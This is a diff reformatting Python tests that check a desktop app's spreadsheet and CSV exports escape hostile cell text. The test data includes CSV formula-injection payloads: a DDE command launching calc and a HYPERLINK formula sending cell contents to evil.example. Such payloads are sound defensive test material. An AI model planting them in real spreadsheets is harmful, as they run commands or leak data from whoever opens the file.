@@ -32,8 +32,13 @@ from movizor_desktop.exchange.text_safety import (
 T0 = datetime(2026, 11, 26, 6, 0, tzinfo=UTC)
 WORD_TITLE = "Иванов\x0bМАН"  # a manual line break pasted from Word
 # Every character that breaks openpyxl, XML or UTF-8, in one title.
-HOSTILE = ("Петров" + "".join(chr(c) for c in range(32)) + "\x7f\x85\u2028\ufffe\uffff"
-           + "\ud800" + "КамАЗ")
+HOSTILE = (
+    "Петров"
+    + "".join(chr(c) for c in range(32))
+    + "\x7f\x85\u2028\ufffe\uffff"
+    + "\ud800"
+    + "КамАЗ"
+)
 FORMULAS = [
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://evil.example/?d="&A1,"click")',
@@ -81,11 +86,14 @@ def test_the_formula_guard(text: str) -> None:
 
 
 def hostile_table() -> Table:
-    return Table(["Телефон", "Name\x0b", "=Header", "Km"], [
-        ["+7 921 001-02-03", WORD_TITLE, HOSTILE, 1.5],
-        *([f"+7 921 001-02-0{i}", text, "x" * 40_000, None]
-          for i, text in enumerate(FORMULAS)),
-    ], sheet="Абоненты\x0b[1]")
+    return Table(
+        ["Телефон", "Name\x0b", "=Header", "Km"],
+        [
+            ["+7 921 001-02-03", WORD_TITLE, HOSTILE, 1.5],
+            *([f"+7 921 001-02-0{i}", text, "x" * 40_000, None] for i, text in enumerate(FORMULAS)),
+        ],
+        sheet="Абоненты\x0b[1]",
+    )
 
 
 def test_xlsx_of_the_whole_list_is_written_whatever_the_titles_hold(tmp_path) -> None:
@@ -122,11 +130,26 @@ def test_csv_of_the_whole_list_guards_every_text_cell(tmp_path) -> None:
 
 
 def hostile_results() -> list[RowResult]:
-    return [RowResult(line=2 + i, raw_phone="+7 921 000-00-0" + str(i), phone=None,
-                      title=text, outcome="failed", reason=f"«{text}» refused")
-            for i, text in enumerate(FORMULAS)] + [
-        RowResult(line=20, raw_phone="=1+1", phone=None, title=WORD_TITLE, outcome="bad",
-                  reason="=HYPERLINK(\"x\")")]
+    return [
+        RowResult(
+            line=2 + i,
+            raw_phone="+7 921 000-00-0" + str(i),
+            phone=None,
+            title=text,
+            outcome="failed",
+            reason=f"«{text}» refused",
+        )
+        for i, text in enumerate(FORMULAS)
+    ] + [
+        RowResult(
+            line=20,
+            raw_phone="=1+1",
+            phone=None,
+            title=WORD_TITLE,
+            outcome="bad",
+            reason='=HYPERLINK("x")',
+        )
+    ]
 
 
 def test_the_import_report_uses_the_same_guard(tmp_path) -> None:
@@ -135,7 +158,7 @@ def test_the_import_report_uses_the_same_guard(tmp_path) -> None:
     for row, text in zip(rows[1:], FORMULAS, strict=False):
         assert row[1].startswith("'+7"), row
         assert row[2] == "'" + export_text(text), row
-    assert rows[-1] == ["20", "'=1+1", "Иванов МАН", "ошибка в строке", "'=HYPERLINK(\"x\")"]
+    assert rows[-1] == ["20", "'=1+1", "Иванов МАН", "ошибка в строке", '\'=HYPERLINK("x")']
     assert write_report(tmp_path / "r.csv", hostile_results(), "ru") == len(FORMULAS) + 1
     assert csv_cells((tmp_path / "r.csv").read_bytes()) == rows
 
@@ -144,13 +167,22 @@ def test_the_import_report_uses_the_same_guard(tmp_path) -> None:
 
 
 def hostile_positions() -> list[Position]:
-    good = [Position(lat=55.75 + i / 100, lon=37.6 + i / 100, radius=500,
-                     timestamp=T0 + timedelta(minutes=10 * i), place=p)
-            for i, p in enumerate((WORD_TITLE, HOSTILE, "<b>&amp;</b>", ""))]
-    broken = [Position(lat=math.nan, lon=37.6, timestamp=T0),
-              Position(lat=55.7, lon=math.inf, timestamp=T0),
-              Position(lat=95.0, lon=37.6, timestamp=T0),
-              Position(lat=55.7, lon=-200.0, timestamp=T0)]
+    good = [
+        Position(
+            lat=55.75 + i / 100,
+            lon=37.6 + i / 100,
+            radius=500,
+            timestamp=T0 + timedelta(minutes=10 * i),
+            place=p,
+        )
+        for i, p in enumerate((WORD_TITLE, HOSTILE, "<b>&amp;</b>", ""))
+    ]
+    broken = [
+        Position(lat=math.nan, lon=37.6, timestamp=T0),
+        Position(lat=55.7, lon=math.inf, timestamp=T0),
+        Position(lat=95.0, lon=37.6, timestamp=T0),
+        Position(lat=55.7, lon=-200.0, timestamp=T0),
+    ]
     return good + broken
 
 
